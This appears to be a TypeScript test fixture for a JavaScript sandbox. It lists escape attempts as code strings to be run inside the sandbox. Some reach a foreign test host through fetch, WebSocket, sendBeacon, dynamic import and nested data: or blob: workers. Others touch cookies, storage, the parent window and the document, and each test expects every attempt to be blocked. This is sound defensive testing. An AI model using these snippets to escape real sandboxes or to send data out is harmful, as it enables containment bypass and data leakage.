/*
 * Every way out that we know, as plain JavaScript to be run inside the sandbox. Each attack answers 'out' with what it got, or what
 * stopped it. `E` and `O` make addresses on the foreign and on our own server.
 */

/** Attacks that reach for the network: none may answer `out`, and neither server may see a request. */
export const NETWORK: Record<string, string> = {
  fetch: `await fetch(E('fetch'), { mode: 'no-cors' }); return 'out'`,
  'fetch own': `await fetch(O('fetch')); return 'out'`,
  keepalive: `await fetch(E('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }); return 'out'`,
  XMLHttpRequest: `return new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', E('xhr')); x.onload = () => ok('out'); x.onerror = no; x.send() })`,
  WebSocket: `return new Promise((ok, no) => { const w = new WebSocket(E('ws').replace('http', 'ws')); w.onopen = () => ok('out'); w.onerror = no })`,
  WebSocketStream: `await new WebSocketStream(E('wss').replace('http', 'ws')).opened; return 'out'`,
  EventSource: `return new Promise((ok, no) => { const s = new EventSource(E('es')); s.onopen = () => ok('out'); s.onerror = () => { s.close(); no(new Error('refused')) } })`,
  WebTransport: `await new WebTransport(E('wt').replace('http:', 'https:')).ready; return 'out'`,
  RTCPeerConnection: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:localhost' }] }); return 'out'`,
  FontFace: `await new FontFace('x', 'url(' + E('font') + ')').load(); return 'out'`,
  importScripts: `importScripts(E('js')); return 'out'`,
  'import()': `await import(E('mod')); return 'out'`,
  'import() own': `await import(O('mod')); return 'out'`,
  'import() data:': `await import('data:text/javascript,export default 1'); return 'out'`,
  'import() blob:': `await import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))); return 'out'`,
  'import() in Function': `await Function('u', 'return import(u)')(E('fmod')); return 'out'`,
  sendBeacon: `navigator.sendBeacon(E('beacon')); return 'out'`,
  'nested data: worker': `return new Promise((ok, no) => { const w = new Worker('data:text/javascript,' + encodeURIComponent('fetch(' + JSON.stringify(E('nested')) + ', { mode: "no-cors" }).then(() => postMessage("out"), () => postMessage("refused"))')); w.onmessage = (e) => ok(e.data); w.onerror = (e) => { e.preventDefault(); no(new Error('refused')) } })`,
  'nested blob: worker': `return new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(E('nestedb')) + ', { mode: "no-cors" }).then(() => postMessage("out"), () => postMessage("refused"))']))); w.onmessage = (e) => ok(e.data); w.onerror = (e) => { e.preventDefault(); no(new Error('refused')) } })`,
};

/** Attacks on the page, its storage, and other environments. */
export const STORAGE: Record<string, string> = {
  indexedDB: `return new Promise((ok, no) => { const r = indexedDB.open('appdb'); r.onsuccess = () => ok('out'); r.onerror = () => no(r.error) })`,
  caches: `await caches.open('x'); return 'out'`,
  'private file system': `await navigator.storage.getDirectory(); return 'out'`,
  locks: `return navigator.locks.request('applock', { ifAvailable: true }, () => 'out')`,
  cookieStore: `await cookieStore.getAll(); return 'out'`,
  localStorage: `localStorage.setItem('a', '1'); return 'out'`,
  sessionStorage: `sessionStorage.setItem('a', '1'); return 'out'`,
  'parent window': `parent.postMessage('lambdarium-sandbox-ready', '*'); return 'out'`,
  document: `document.title = 'x'; return 'out'`,
  SharedWorker: `new SharedWorker('data:text/javascript,1'); return 'out'`,
  serviceWorker: `await navigator.serviceWorker.getRegistrations(); return 'out'`,
};

/** A function text that runs one attack: resolves with 'out…' or with what stopped it, within a second. */
export function attackCode(body: string, foreign: string, own: string): string {
  return `(async () => { const E = (n) => '${foreign}/hit/' + n, O = (n) => '${own}/hit/' + n;
    try { return String(await (async () => { ${body} })()) } catch (e) { return 'stopped by ' + (e && e.name) + ': ' + (e && e.message) } })()`;
}
